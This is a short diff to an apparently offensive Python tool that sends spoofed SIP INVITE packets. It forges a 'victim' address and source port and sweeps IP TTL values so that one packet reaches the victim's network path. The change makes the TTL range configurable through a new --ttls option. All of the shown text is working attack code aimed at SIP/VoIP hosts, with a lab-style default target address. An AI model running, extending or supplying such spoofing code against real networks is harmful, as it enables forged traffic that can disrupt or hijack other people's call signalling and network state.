@@ -42,7 +42,7 @@ def every_ttl(wire, o):
     """INVITEs with the victim's address and port, and with each TTL: one of them is his path."""
     frames = [wire.frame(datagram(o.victim, SERVER,
                                   sip.request("INVITE", "call", SERVER, (o.victim, o.sport)),
-                                  o.sport, ttl=ttl)) for ttl in range(30, 129)]
+                                  o.sport, ttl=ttl)) for ttl in range(*o.ttls)]
     sent, end = 0, time.monotonic() + o.seconds
     while time.monotonic() < end:
         for frame in frames:
@@ -116,6 +116,7 @@ def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--victim", default="10.77.0.10")
     parser.add_argument("--sport", type=int, default=5060)
+    parser.add_argument("--ttls", type=int, nargs=2, default=(30, 129), help="from, and up to")
     parser.add_argument("--ttl", type=int, default=64)
     parser.add_argument("--seconds", type=float, default=3)
     parser.add_argument("--source", help="addresses, with commas between")
